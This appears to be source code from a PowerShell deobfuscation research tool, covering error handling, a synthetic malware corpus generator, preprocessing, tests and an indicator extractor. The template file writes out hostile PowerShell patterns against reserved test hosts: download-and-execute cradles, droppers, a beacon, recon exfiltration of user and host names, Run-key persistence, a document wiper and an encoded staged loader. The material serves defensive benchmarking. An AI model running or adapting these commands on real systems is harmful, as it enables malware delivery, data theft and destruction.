	ErrDeadline = limits.ErrDeadline
	// ErrCanceled reports that the context was canceled mid-run.
	ErrCanceled = limits.ErrCanceled
	// ErrMemBudget reports that an interpreter memory budget was
	// exhausted.
	ErrMemBudget = limits.ErrMemBudget
	// ErrParseDepth reports input nesting beyond the parser's limit.
	ErrParseDepth = limits.ErrParseDepth
	// ErrOutputBudget reports that the total bytes produced across
	// unwrapped layers exceeded Options.MaxOutputBytes.
	ErrOutputBudget = limits.ErrOutputBudget
	// ErrPanic reports an internal panic converted to an error at an
	// isolation barrier.
	ErrPanic = limits.ErrPanic
)
