package core

import (
	"context"
	"errors"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

// Structured error taxonomy for envelope violations, re-exported from
// the shared limits package so callers can classify failures with
// errors.Is without importing internal/limits directly.
var (
	// ErrDeadline reports that the context deadline expired mid-run.
	ErrDeadline = limits.ErrDeadline
	// ErrCanceled reports that the context was canceled mid-run.
	ErrCanceled = limits.ErrCanceled
	// ErrMemBudget reports that an interpreter memory budget was
	// exhausted.
	ErrMemBudget = limits.ErrMemBudget
	// ErrParseDepth reports input nesting beyond the parser's limit.
	ErrParseDepth = limits.ErrParseDepth
	// ErrOutputBudget reports that the total bytes produced across
	// unwrapped layers exceeded Options.MaxOutputBytes.
	ErrOutputBudget = limits.ErrOutputBudget
	// ErrPanic reports an internal panic converted to an error at an
	// isolation barrier.
	ErrPanic = limits.ErrPanic
)

// envelope carries the per-run execution limits through the pipeline:
// the caller's context (deadline / cancelation) and the remaining
// output byte budget shared by all unwrapped layers. A Deobfuscator is
// reusable across runs, so this state lives on the run, not on the
// Deobfuscator.
type envelope struct {
	ctx             context.Context
	outputRemaining int
	// err latches the first envelope violation so later checks fail
	// fast without re-deriving it.
	err error
}

func newEnvelope(ctx context.Context, maxOutput int) *envelope {
	if ctx == nil {
		ctx = context.Background()
	}
	if maxOutput <= 0 {
		maxOutput = defaultMaxOutputBytes
	}
	return &envelope{ctx: ctx, outputRemaining: maxOutput}
}

// check returns the latched violation or a fresh context error, nil
// while the envelope is intact.
func (e *envelope) check() error {
	if e == nil {
		return nil
	}
	if e.err != nil {
		return e.err
	}
	if cerr := e.ctx.Err(); cerr != nil {
		e.err = limits.FromContext(cerr)
		return e.err
	}
	// ctx.Err() turns non-nil only once the context's timer goroutine
	// has fired; right at the deadline instant it can lag the wall
	// clock by a scheduling quantum. The interpreter checks
	// time.Now() against the deadline directly, so mirror that here —
	// otherwise a piece can fail with ErrDeadline while the run-level
	// check still reads the envelope as intact.
	if dl, ok := e.ctx.Deadline(); ok && !time.Now().Before(dl) {
		e.err = ErrDeadline
		return e.err
	}
	return nil
}

// violated reports whether the envelope has already been broken.
func (e *envelope) violated() bool { return e.check() != nil }

// chargeOutput debits n bytes of layer output from the shared budget.
// Non-positive charges (a layer that shrank) are free — the budget is
// never refunded, so oscillating layers cannot mint headroom.
func (e *envelope) chargeOutput(n int) error {
	if e == nil || n <= 0 {
		return nil
	}
	if n > e.outputRemaining {
		e.outputRemaining = 0
		if e.err == nil {
			e.err = ErrOutputBudget
		}
		return ErrOutputBudget
	}
	e.outputRemaining -= n
	return nil
}

// classifyEvalFailure buckets a per-piece evaluation failure into the
// Stats counters. Failures outside the taxonomy (unsupported feature,
// runtime error in the piece) are the normal give-up path and are not
// counted here.
func classifyEvalFailure(stats *Stats, err error) {
	switch {
	case errors.Is(err, ErrDeadline) || errors.Is(err, ErrCanceled):
		stats.PiecesTimedOut++
	case errors.Is(err, ErrMemBudget):
		stats.PiecesOverBudget++
	case errors.Is(err, ErrPanic):
		stats.PiecesPanicked++
	}
}
