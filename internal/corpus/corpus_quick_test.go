package corpus

import (
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/sandbox"
)

func TestGenerateQuick(t *testing.T) {
	samples := Generate(Config{Seed: 7, N: 40})
	if len(samples) != 40 {
		t.Fatalf("got %d samples", len(samples))
	}
	obfuscated, networked, multilayer := 0, 0, 0
	for _, s := range samples {
		if !ValidSyntax(s.Source) {
			t.Errorf("%s: invalid syntax (family=%s techs=%v)", s.ID, s.Family, s.Techniques)
			continue
		}
		if len(s.Techniques) > 0 {
			obfuscated++
		}
		if s.MultiLayer() {
			multilayer++
		}
		if s.HasNetwork {
			networked++
			res := sandbox.Run(s.Original, sandbox.Options{})
			if !res.Behavior.HasNetwork() {
				t.Errorf("%s (%s): clean script produced no network behavior (err=%v)", s.ID, s.Family, res.Err)
			}
		}
	}
	t.Logf("obfuscated=%d networked=%d multilayer=%d", obfuscated, networked, multilayer)
	if obfuscated < 30 {
		t.Errorf("too few obfuscated samples: %d", obfuscated)
	}
}
