package corpus

import (
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	_ "github.com/invoke-deobfuscation/invokedeob/internal/frontends"
	"github.com/invoke-deobfuscation/invokedeob/internal/sandbox"
)

// TestBehaviorRoundTrip checks the Table IV property on generated wild
// samples: deobfuscation preserves network behavior.
func TestBehaviorRoundTrip(t *testing.T) {
	samples := Generate(Config{Seed: 99, N: 30})
	d := core.New(core.Options{})
	consistent, withNet, failed := 0, 0, 0
	for _, s := range samples {
		orig := sandbox.Run(s.Source, sandbox.Options{})
		if !orig.Behavior.HasNetwork() {
			continue
		}
		withNet++
		res, err := d.Deobfuscate(s.Source)
		if err != nil {
			failed++
			t.Logf("%s: deobfuscate error: %v", s.ID, err)
			continue
		}
		after := sandbox.Run(res.Script, sandbox.Options{})
		if sandbox.Consistent(orig.Behavior, after.Behavior) {
			consistent++
		} else {
			t.Errorf("%s (%s, techs=%v): behavior diverged\norig: %v\nnew : %v\nscript:\n%s\ndeob:\n%s",
				s.ID, s.Family, s.Techniques, orig.Behavior.NetworkSet(), after.Behavior.NetworkSet(),
				head(s.Source), head(res.Script))
		}
	}
	t.Logf("networked=%d consistent=%d failed=%d", withNet, consistent, failed)
	if withNet == 0 {
		t.Fatal("no networked samples")
	}
}

func head(s string) string {
	if len(s) > 400 {
		return s[:400] + "..."
	}
	return s
}
