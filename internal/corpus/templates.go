package corpus

import (
	"encoding/base64"
	"fmt"
	"math/rand"
	"strconv"
	"strings"
)

// Indicator pools. TEST-NET ranges and reserved example domains keep the
// corpus inert while remaining realistic for extraction.
var (
	domainWords = []string{
		"cdn", "update", "static", "img", "files", "api", "dl", "mirror",
		"cloud", "secure", "portal", "assets", "media", "sync",
	}
	tlds      = []string{"example", "test", "invalid"}
	fileWords = []string{
		"payload", "update", "svchost", "report", "invoice", "setup",
		"installer", "patch", "module", "loader", "stage2", "config",
	}
)

func randomHost(rng *rand.Rand) string {
	return fmt.Sprintf("%s%d.%s%d.%s",
		domainWords[rng.Intn(len(domainWords))], rng.Intn(90)+10,
		domainWords[rng.Intn(len(domainWords))], rng.Intn(9)+1,
		tlds[rng.Intn(len(tlds))])
}

func randomIP(rng *rand.Rand) string {
	// TEST-NET-2 and TEST-NET-3.
	if rng.Intn(2) == 0 {
		return fmt.Sprintf("198.51.100.%d", rng.Intn(253)+1)
	}
	return fmt.Sprintf("203.0.113.%d", rng.Intn(253)+1)
}

func randomPs1(rng *rand.Rand) string {
	return fmt.Sprintf("%s%d.ps1", fileWords[rng.Intn(len(fileWords))], rng.Intn(900)+100)
}

func randomExe(rng *rand.Rand) string {
	return fmt.Sprintf("%s%d.exe", fileWords[rng.Intn(len(fileWords))], rng.Intn(900)+100)
}

// buildScript renders a clean script of the given family with unique
// indicators.
func buildScript(rng *rand.Rand, family Family, idx int) string {
	host := randomHost(rng)
	ip := randomIP(rng)
	ps1 := randomPs1(rng)
	exe := randomExe(rng)
	port := []int{80, 443, 8080, 4444, 8443}[rng.Intn(5)]
	switch family {
	case FamilyDownloader:
		if rng.Intn(2) == 0 {
			// The paper's running pattern: the indicator is assembled
			// from variable halves, so only variable tracing exposes it.
			full := fmt.Sprintf("http://%s/%s", host, ps1)
			cut := len(full)/2 + rng.Intn(5)
			return strings.Join([]string{
				fmt.Sprintf("$head = '%s'", full[:cut]),
				fmt.Sprintf("$tail = '%s'", full[cut:]),
				"$url = $head + $tail",
				"$client = New-Object Net.WebClient",
				"$script = $client.downloadstring($url)",
				"Invoke-Expression $script",
			}, "\n")
		}
		return strings.Join([]string{
			fmt.Sprintf("$url = 'http://%s/%s'", host, ps1),
			"$client = New-Object Net.WebClient",
			"$script = $client.downloadstring($url)",
			"Invoke-Expression $script",
		}, "\n")
	case FamilyDropper:
		return strings.Join([]string{
			fmt.Sprintf("$src = 'https://%s/drop/%s'", host, exe),
			fmt.Sprintf("$dst = \"$env:TEMP\\%s\"", exe),
			"(New-Object Net.WebClient).DownloadFile($src, $dst)",
			"Start-Process $dst",
		}, "\n")
	case FamilyBeacon:
		return strings.Join([]string{
			fmt.Sprintf("$c2 = '%s'", ip),
			fmt.Sprintf("$client = New-Object Net.Sockets.TcpClient($c2, %d)", port),
			"$stream = $client.GetStream()",
			"$client.Close()",
		}, "\n")
	case FamilyRecon:
		return strings.Join([]string{
			"$info = \"$env:COMPUTERNAME/$env:USERNAME\"",
			fmt.Sprintf("$exfil = 'http://%s/gate.php'", host),
			"(New-Object Net.WebClient).UploadString($exfil, $info)",
		}, "\n")
	case FamilyPersistence:
		return strings.Join([]string{
			fmt.Sprintf("$task = \"powershell -w hidden -File $env:APPDATA\\%s\"", ps1),
			"New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Updater' -Value $task",
		}, "\n")
	case FamilyWiper:
		return strings.Join([]string{
			"$targets = Get-ChildItem \"$env:USERPROFILE\\Documents\" -Recurse",
			"foreach ($t in $targets) { Remove-Item $t -Force }",
			"Write-Host 'cleanup complete'",
		}, "\n")
	case FamilyRansomNote:
		return strings.Join([]string{
			fmt.Sprintf("$note = 'Your files are encrypted. Visit http://%s/pay to recover.'", host),
			"$note | Out-File \"$env:USERPROFILE\\Desktop\\README.txt\"",
			"Write-Host $note",
		}, "\n")
	case FamilyStagedLoader:
		// The decoder lives in a function; recovering the payload would
		// require tracing through the call (paper §V-C).
		key := rng.Intn(120) + 5
		payload := fmt.Sprintf("(New-Object Net.WebClient).downloadstring('http://%s/%s') | Invoke-Expression", host, ps1)
		codes := make([]string, 0, len(payload))
		for _, r := range payload {
			codes = append(codes, strconv.Itoa(int(r)^key))
		}
		return strings.Join([]string{
			fmt.Sprintf("function decode($s) { -join ($s -split ',' | ForEach-Object { [char]([int]$_ -bxor %d) }) }", key),
			fmt.Sprintf("$stage = decode('%s')", strings.Join(codes, ",")),
			"Invoke-Expression $stage",
		}, "\n")
	case FamilyBinaryDropper:
		// The Base64 blob is a binary PE stub, not encoded text; a
		// correct deobfuscator leaves it alone (paper §IV-C4).
		blob := make([]byte, 96+rng.Intn(64))
		blob[0], blob[1] = 'M', 'Z'
		for i := 2; i < len(blob); i++ {
			blob[i] = byte(rng.Intn(256))
		}
		return strings.Join([]string{
			fmt.Sprintf("$blob = '%s'", base64.StdEncoding.EncodeToString(blob)),
			"$bytes = [Convert]::FromBase64String($blob)",
			fmt.Sprintf("[IO.File]::WriteAllBytes(\"$env:TEMP\\%s\", $bytes)", exe),
			fmt.Sprintf("Start-Process \"$env:TEMP\\%s\"", exe),
		}, "\n")
	default: // FamilyLoader
		return strings.Join([]string{
			fmt.Sprintf("$stager = 'http://%s:%d/%s'", ip, port, ps1),
			"$code = (New-Object Net.WebClient).downloadstring($stager)",
			fmt.Sprintf("powershell -nop -w hidden -Command $code # loader %d", idx),
		}, "\n")
	}
}
