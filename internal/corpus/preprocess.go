package corpus

import (
	"crypto/sha256"
	"encoding/hex"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// Preprocessing reproduces the paper's dataset pipeline (§IV-B1):
// syntax validation, token-based file-type filtering, meaningfulness
// checks, and structural deduplication via string-placeholder
// normalization.

// ValidSyntax reports whether the script parses as PowerShell (the
// paper's "can be converted to a script block" check).
func ValidSyntax(src string) bool {
	_, err := psparser.Parse(src)
	return err == nil
}

// LooksLikePowerShell applies the paper's token filters: the sample
// must tokenize, produce at least one token, and not consist of
// obviously foreign commands (tokens with characters such as = or %
// in command position, typical of Mail/HTML false positives).
func LooksLikePowerShell(src string) bool {
	toks, err := pstoken.Tokenize(src)
	if err != nil || len(toks) == 0 {
		return false
	}
	commands := 0
	badCommands := 0
	stringOnly := true
	for _, t := range toks {
		switch t.Type {
		case pstoken.Command:
			commands++
			if strings.ContainsAny(t.Content, "=%<>") {
				badCommands++
			}
			stringOnly = false
		case pstoken.String, pstoken.NewLine, pstoken.StatementSeparator:
		default:
			stringOnly = false
		}
	}
	if commands > 0 && badCommands == commands {
		return false
	}
	// Samples that are a single string token are meaningless for
	// analysis (paper §IV-B1, third filter).
	if stringOnly {
		nonSep := 0
		for _, t := range toks {
			if t.Type == pstoken.String {
				nonSep++
			}
		}
		if nonSep <= 1 {
			return false
		}
	}
	return true
}

// StructureHash hashes a script with every string token replaced by a
// placeholder, so samples differing only in embedded strings (URLs,
// paths) collide — the paper's family-level deduplication.
func StructureHash(src string) string {
	toks, err := pstoken.Tokenize(src)
	if err != nil {
		sum := sha256.Sum256([]byte(src))
		return hex.EncodeToString(sum[:])
	}
	var sb strings.Builder
	for _, t := range toks {
		switch t.Type {
		case pstoken.String:
			sb.WriteString("<S>")
		case pstoken.Comment:
			// Comments do not contribute structure.
		case pstoken.NewLine:
			sb.WriteByte('\n')
		default:
			sb.WriteString(strings.ToLower(t.Content))
			sb.WriteByte(' ')
		}
	}
	sum := sha256.Sum256([]byte(sb.String()))
	return hex.EncodeToString(sum[:])
}

// Deduplicate removes samples whose structure hash repeats, keeping
// first occurrences and preserving order.
func Deduplicate(samples []*Sample) []*Sample {
	seen := make(map[string]bool, len(samples))
	var out []*Sample
	for _, s := range samples {
		h := StructureHash(s.Source)
		if seen[h] {
			continue
		}
		seen[h] = true
		out = append(out, s)
	}
	return out
}

// Preprocess runs the full pipeline: syntax validation, token filters
// and structural dedup, returning the surviving samples (the analogue
// of 2,025,175 → 39,713 in the paper).
func Preprocess(samples []*Sample) []*Sample {
	var valid []*Sample
	for _, s := range samples {
		if !ValidSyntax(s.Source) || !LooksLikePowerShell(s.Source) {
			continue
		}
		valid = append(valid, s)
	}
	return Deduplicate(valid)
}
