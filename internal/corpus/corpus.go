// Package corpus generates the synthetic wild-sample dataset that
// stands in for the paper's proprietary QI-ANXIN collection (39,713
// deduplicated malicious PowerShell scripts). Samples are built from
// realistic malware script shapes (downloader, dropper, beacon, recon,
// persistence, wiper, ransom note), parameterized with unique network
// indicators, then obfuscated with randomized technique stacks whose
// level mix matches Table I (L1 ≈ 98%, L2 ≈ 98%, L3 ≈ 96%).
//
// Generation is deterministic for a given seed, and every sample keeps
// its clean original, the exact technique stack, and extracted
// ground-truth key information.
package corpus

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/keyinfo"
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
	"github.com/invoke-deobfuscation/invokedeob/internal/sandbox"
)

// Family labels the malicious behaviour shape of a sample.
type Family string

// Script families.
const (
	FamilyDownloader  Family = "downloader"
	FamilyDropper     Family = "dropper"
	FamilyBeacon      Family = "beacon"
	FamilyRecon       Family = "recon"
	FamilyPersistence Family = "persistence"
	FamilyWiper       Family = "wiper"
	FamilyRansomNote  Family = "ransom-note"
	FamilyLoader      Family = "loader"
	// FamilyStagedLoader hides its decoder inside a function — the
	// "Complex Obfuscation" case of paper §V-C that variable tracing
	// deliberately does not follow.
	FamilyStagedLoader Family = "staged-loader"
	// FamilyBinaryDropper embeds a Base64 binary payload that must NOT
	// be decoded to text (paper §IV-C4: Base64 binaries stay encoded).
	FamilyBinaryDropper Family = "binary-dropper"
)

// Sample is one generated wild-like script with ground truth.
type Sample struct {
	// ID is a stable identifier.
	ID string
	// Source is the obfuscated script (what a sandbox would collect).
	Source string
	// Original is the clean script before obfuscation.
	Original string
	// Family is the behaviour shape.
	Family Family
	// Techniques is the applied obfuscation stack in order.
	Techniques []obfuscate.Technique
	// Layers counts IEX/EncodedCommand wrapper layers (L3 encodings).
	Layers int
	// KeyInfo is ground truth extracted from Original.
	KeyInfo *keyinfo.Info
	// HasNetwork reports whether the clean script performs network
	// activity.
	HasNetwork bool
}

// MultiLayer reports whether the sample has more than one wrapper layer.
func (s *Sample) MultiLayer() bool { return s.Layers >= 2 }

// Config controls generation.
type Config struct {
	// Seed makes generation reproducible.
	Seed int64
	// N is the number of samples to generate.
	N int
	// MaxL3Layers caps stacked L3 wrappers (default 3).
	MaxL3Layers int
	// PlainFraction is the fraction of samples left unobfuscated
	// (default 0.01, matching the paper's ~98.8% obfuscated finding).
	PlainFraction float64
}

// Generate builds a deterministic corpus.
func Generate(cfg Config) []*Sample {
	if cfg.N <= 0 {
		cfg.N = 100
	}
	if cfg.MaxL3Layers == 0 {
		cfg.MaxL3Layers = 3
	}
	if cfg.PlainFraction == 0 {
		cfg.PlainFraction = 0.012
	}
	rng := rand.New(rand.NewSource(cfg.Seed))
	samples := make([]*Sample, 0, cfg.N)
	for i := 0; i < cfg.N; i++ {
		s := generateOne(rng, cfg, i)
		samples = append(samples, s)
	}
	return samples
}

func generateOne(rng *rand.Rand, cfg Config, idx int) *Sample {
	family := families[rng.Intn(len(families))]
	original := buildScript(rng, family, idx)
	s := &Sample{
		ID:         fmt.Sprintf("sample-%05d", idx),
		Family:     family,
		Original:   original,
		KeyInfo:    groundTruth(original),
		HasNetwork: familyHasNetwork(family),
	}
	if rng.Float64() < cfg.PlainFraction {
		s.Source = original
		return s
	}
	obf := obfuscate.New(rng.Int63())
	stack := buildStack(rng, cfg)
	out, applied, err := obf.ApplyStack(original, stack)
	if err != nil || out == "" {
		s.Source = original
		return s
	}
	s.Source = out
	s.Techniques = applied
	for _, t := range applied {
		if obfuscate.Level(t) == 3 && t != obfuscate.EncodeWhitespace {
			s.Layers++
		}
		if t == obfuscate.EncodeWhitespace {
			s.Layers++
		}
	}
	return s
}

// groundTruth combines static extraction from the clean script with the
// URLs it actually contacts at run time (observed in the sandbox). This
// matches the paper's manual benchmark: an analyst records the real
// indicator even when the script assembles it from pieces.
func groundTruth(original string) *keyinfo.Info {
	info := keyinfo.Extract(original)
	res := sandbox.Run(original, sandbox.Options{})
	seen := make(map[string]bool, len(info.URLs))
	for _, u := range info.URLs {
		seen[strings.ToLower(u)] = true
	}
	for _, e := range res.Behavior {
		if e.Kind != sandbox.EventHTTPGet {
			continue
		}
		u := strings.TrimSpace(strings.TrimPrefix(strings.TrimPrefix(e.Detail, "GET "), "POST "))
		lower := strings.ToLower(u)
		if !strings.HasPrefix(lower, "http") || seen[lower] {
			continue
		}
		seen[lower] = true
		info.URLs = append(info.URLs, u)
		// A dynamically assembled URL supersedes its static fragments.
		info.URLs = dropFragments(info.URLs)
	}
	sort.Strings(info.URLs)
	return info
}

// dropFragments removes URLs that are strict prefixes of another
// (static halves of an assembled indicator).
func dropFragments(urls []string) []string {
	var out []string
	for _, u := range urls {
		fragment := false
		for _, other := range urls {
			if u != other && strings.HasPrefix(strings.ToLower(other), strings.ToLower(u)) {
				fragment = true
				break
			}
		}
		if !fragment {
			out = append(out, u)
		}
	}
	return out
}

var families = []Family{
	FamilyDownloader, FamilyDropper, FamilyBeacon, FamilyRecon,
	FamilyPersistence, FamilyWiper, FamilyRansomNote, FamilyLoader,
	// The hard families appear twice less often than the simple ones.
	FamilyStagedLoader, FamilyBinaryDropper,
}

func familyHasNetwork(f Family) bool {
	switch f {
	case FamilyDownloader, FamilyDropper, FamilyBeacon, FamilyRecon,
		FamilyLoader, FamilyStagedLoader:
		return true
	}
	return false
}

// buildStack assembles a random technique stack matching Table I's
// level mix: nearly all samples carry visible L1 and L2, ~96% carry L3.
// Like Invoke-Obfuscation, outer wrappers are themselves obfuscated, so
// every level stays visible in the final sample.
func buildStack(rng *rand.Rand, cfg Config) []obfuscate.Technique {
	var stack []obfuscate.Technique
	pickL2 := func() obfuscate.Technique {
		l2 := []obfuscate.Technique{
			obfuscate.Concat, obfuscate.Reorder, obfuscate.Replace, obfuscate.Reverse,
		}
		return l2[rng.Intn(len(l2))]
	}
	appendL1 := func(count int) {
		l1 := []obfuscate.Technique{
			obfuscate.RandomName, obfuscate.Alias, obfuscate.Ticking,
			obfuscate.RandomCase, obfuscate.Whitespacing,
		}
		rng.Shuffle(len(l1), func(i, j int) { l1[i], l1[j] = l1[j], l1[i] })
		for _, t := range l1[:count] {
			stack = append(stack, t)
		}
	}
	// Inner L2 string transformations (hidden by later wrappers, but
	// present once the sample is peeled).
	if rng.Float64() < 0.9 {
		stack = append(stack, pickL2())
	}
	// Inner L1 randomization.
	if rng.Float64() < 0.6 {
		appendL1(1 + rng.Intn(2))
	}
	// L3 wrapper layers.
	if rng.Float64() < 0.96 {
		layers := 1
		for layers < cfg.MaxL3Layers && rng.Float64() < 0.28 {
			layers++
		}
		l3 := []obfuscate.Technique{
			obfuscate.EncodeBase64, obfuscate.EncodeBxor, obfuscate.EncodeASCII,
			obfuscate.EncodeHex, obfuscate.EncodeBinary, obfuscate.EncodeOctal,
			obfuscate.EncodeSpecialChar, obfuscate.SecureString,
			obfuscate.CompressDeflate, obfuscate.CompressGzip,
		}
		for i := 0; i < layers; i++ {
			stack = append(stack, l3[rng.Intn(len(l3))])
		}
		// Whitespace encoding is rare in the wild (~0.1%, §IV-C1).
		if rng.Float64() < 0.001 {
			stack = append(stack, obfuscate.EncodeWhitespace)
		}
	}
	// Outer L2 on the wrapper's own string literals (e.g. splitting the
	// Base64 payload with +).
	if rng.Float64() < 0.97 {
		stack = append(stack, pickL2())
	}
	// Outer L1 randomization keeps level 1 visible in the final text.
	if rng.Float64() < 0.985 {
		appendL1(2 + rng.Intn(3))
	}
	return stack
}
