package corpus

import (
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/keyinfo"
)

func TestValidSyntax(t *testing.T) {
	if !ValidSyntax("write-host hi") {
		t.Error("valid script rejected")
	}
	if ValidSyntax("if (1) {") {
		t.Error("invalid script accepted")
	}
}

func TestLooksLikePowerShell(t *testing.T) {
	yes := []string{
		"write-host hi",
		"$a = 1; $a",
		"(New-Object Net.WebClient).DownloadString('http://x.test')",
	}
	for _, src := range yes {
		if !LooksLikePowerShell(src) {
			t.Errorf("LooksLikePowerShell(%q) = false", src)
		}
	}
	// A single string token is meaningless for analysis (§IV-B1).
	if LooksLikePowerShell("'just a string'") {
		t.Error("single-string sample accepted")
	}
}

func TestStructureHashDeduplication(t *testing.T) {
	// Samples differing only in string contents (URLs) share structure,
	// the paper's family-dedup rule.
	a := "(New-Object Net.WebClient).DownloadString('http://one.test/a')"
	b := "(New-Object Net.WebClient).DownloadString('http://two.test/b')"
	c := "(New-Object Net.WebClient).DownloadFile('http://one.test/a','x')"
	if StructureHash(a) != StructureHash(b) {
		t.Error("string-only variants hash differently")
	}
	if StructureHash(a) == StructureHash(c) {
		t.Error("structurally different scripts collide")
	}
	// Case differences do not create new structures.
	if StructureHash("WRITE-HOST hi") != StructureHash("write-host hi") {
		t.Error("case creates new structure")
	}
	// Comments do not contribute structure.
	if StructureHash("write-host hi # note") != StructureHash("write-host hi") {
		t.Error("comments contribute structure")
	}
}

func TestDeduplicate(t *testing.T) {
	samples := []*Sample{
		{ID: "a", Source: "write-host 'one'"},
		{ID: "b", Source: "write-host 'two'"}, // same structure as a
		{ID: "c", Source: "write-output 'three'"},
	}
	out := Deduplicate(samples)
	if len(out) != 2 || out[0].ID != "a" || out[1].ID != "c" {
		ids := make([]string, len(out))
		for i, s := range out {
			ids[i] = s.ID
		}
		t.Errorf("dedup = %v", ids)
	}
}

func TestPreprocessPipeline(t *testing.T) {
	samples := Generate(Config{Seed: 3, N: 60})
	// Inject junk resembling the paper's Category-Two false positives.
	samples = append(samples,
		&Sample{ID: "bad-syntax", Source: "if (1) {"},
		&Sample{ID: "dup", Source: samples[0].Source},
	)
	out := Preprocess(samples)
	for _, s := range out {
		if s.ID == "bad-syntax" {
			t.Error("invalid sample survived")
		}
	}
	if len(out) > len(samples)-2 {
		t.Errorf("preprocess kept %d of %d", len(out), len(samples))
	}
}

func TestGroundTruthKeyInfo(t *testing.T) {
	samples := Generate(Config{Seed: 11, N: 30})
	for _, s := range samples {
		// Ground truth covers at least the clean script's static
		// indicators (plus any runtime-assembled URLs from the sandbox).
		want := keyinfo.Extract(s.Original)
		if s.KeyInfo.Count() < len(want.Ps1)+len(want.IPs)+len(want.PowerShell) {
			t.Errorf("%s: keyinfo count %d < static %d", s.ID, s.KeyInfo.Count(), want.Count())
		}
		if s.HasNetwork && len(s.KeyInfo.URLs)+len(s.KeyInfo.IPs) == 0 {
			t.Errorf("%s (%s): networked family without network IOCs", s.ID, s.Family)
		}
	}
}

func TestGenerateDeterminism(t *testing.T) {
	a := Generate(Config{Seed: 42, N: 10})
	b := Generate(Config{Seed: 42, N: 10})
	for i := range a {
		if a[i].Source != b[i].Source || a[i].Original != b[i].Original {
			t.Fatalf("sample %d differs between runs", i)
		}
	}
	c := Generate(Config{Seed: 43, N: 10})
	same := 0
	for i := range a {
		if a[i].Source == c[i].Source {
			same++
		}
	}
	if same == len(a) {
		t.Error("different seeds produced identical corpus")
	}
}

func TestLayerCounting(t *testing.T) {
	samples := Generate(Config{Seed: 8, N: 120})
	multi := 0
	for _, s := range samples {
		if s.MultiLayer() {
			multi++
		}
	}
	if multi == 0 {
		t.Error("no multi-layer samples generated")
	}
}
