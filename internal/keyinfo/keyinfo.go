// Package keyinfo extracts the four kinds of key information the paper
// uses to measure deobfuscation effectiveness (§IV-C2, Fig. 5): .ps1
// script paths, PowerShell command invocations, URLs and IP addresses.
package keyinfo

import (
	"regexp"
	"sort"
	"strings"
)

// Kind labels one category of key information.
type Kind string

// The four key-information categories of Fig. 5.
const (
	KindPs1        Kind = "ps1"
	KindPowerShell Kind = "powershell"
	KindURL        Kind = "url"
	KindIP         Kind = "ip"
)

// Info is the key information extracted from one script.
type Info struct {
	Ps1        []string
	PowerShell []string
	URLs       []string
	IPs        []string
}

// Count returns the total number of items.
func (i *Info) Count() int {
	return len(i.Ps1) + len(i.PowerShell) + len(i.URLs) + len(i.IPs)
}

// CountKind returns the number of items of one kind.
func (i *Info) CountKind(k Kind) int {
	switch k {
	case KindPs1:
		return len(i.Ps1)
	case KindPowerShell:
		return len(i.PowerShell)
	case KindURL:
		return len(i.URLs)
	case KindIP:
		return len(i.IPs)
	}
	return 0
}

var (
	urlRe = regexp.MustCompile(`(?i)\bhttps?://[A-Za-z0-9._~:/?#\[\]@!$&'()*+,;=%-]+`)
	ipRe  = regexp.MustCompile(`\b(?:(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.){3}(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\b`)
	ps1Re = regexp.MustCompile(`(?i)[A-Za-z0-9_.:$\\/{}%()-]+\.ps1\b`)
	pwsRe = regexp.MustCompile(`(?i)\bpowershell(?:\.exe)?\b[^\r\n|;]{0,200}`)
)

// Extract pulls key information out of script text.
func Extract(src string) *Info {
	info := &Info{
		URLs: dedupe(trimAll(urlRe.FindAllString(src, -1))),
		Ps1:  dedupe(trimAll(ps1Re.FindAllString(src, -1))),
	}
	// IPs: exclude those that are part of URLs (already counted there)
	// and version-like dotted numbers inside longer sequences.
	ips := dedupe(ipRe.FindAllString(src, -1))
	info.IPs = filterIPs(src, ips)
	for _, m := range pwsRe.FindAllString(src, -1) {
		info.PowerShell = append(info.PowerShell, strings.TrimSpace(m))
	}
	info.PowerShell = dedupe(info.PowerShell)
	return info
}

func trimAll(ms []string) []string {
	out := make([]string, 0, len(ms))
	for _, m := range ms {
		m = strings.TrimRight(m, "'\").,;")
		if m != "" {
			out = append(out, m)
		}
	}
	return out
}

func filterIPs(src string, ips []string) []string {
	var out []string
	for _, ip := range ips {
		if strings.Contains(ip, "..") {
			continue
		}
		// Skip obvious version strings like 127.0.0.1 appearing inside
		// longer dotted runs.
		if strings.HasPrefix(ip, "0.") {
			continue
		}
		out = append(out, ip)
	}
	return dedupe(out)
}

func dedupe(in []string) []string {
	seen := make(map[string]bool, len(in))
	var out []string
	for _, s := range in {
		key := strings.ToLower(s)
		if !seen[key] {
			seen[key] = true
			out = append(out, s)
		}
	}
	sort.Strings(out)
	return out
}

// Matches compares extracted info against a ground-truth set and
// returns how many expected items were found per kind (used to score
// tools against the manual benchmark in Fig. 5).
func Matches(got *Info, want *Info) map[Kind]int {
	return map[Kind]int{
		KindPs1:        countMatches(normalizePaths(got.Ps1), normalizePaths(want.Ps1)),
		KindPowerShell: countMatches(normalizeCommands(got.PowerShell), normalizeCommands(want.PowerShell)),
		KindURL:        countMatches(got.URLs, want.URLs),
		KindIP:         countMatches(got.IPs, want.IPs),
	}
}

// normalizePaths reduces script paths to their base file name, so a
// deobfuscator that resolves $env:APPDATA\x.ps1 to the concrete
// directory still matches the ground truth.
func normalizePaths(paths []string) []string {
	out := make([]string, len(paths))
	for i, p := range paths {
		out[i] = baseName(p)
	}
	return out
}

func baseName(p string) string {
	s := strings.ToLower(strings.Trim(p, "'\""))
	if i := strings.LastIndexAny(s, "\\/"); i >= 0 {
		s = s[i+1:]
	}
	return s
}

var varRefRe = regexp.MustCompile(`\$\{?[A-Za-z_][A-Za-z0-9_:]*\}?`)

// normalizeCommands canonicalizes extracted PowerShell command lines so
// that variable renaming (a semantics-preserving deobfuscation step)
// does not defeat the comparison.
func normalizeCommands(cmds []string) []string {
	out := make([]string, len(cmds))
	for i, c := range cmds {
		n := strings.ToLower(strings.Trim(c, "'\""))
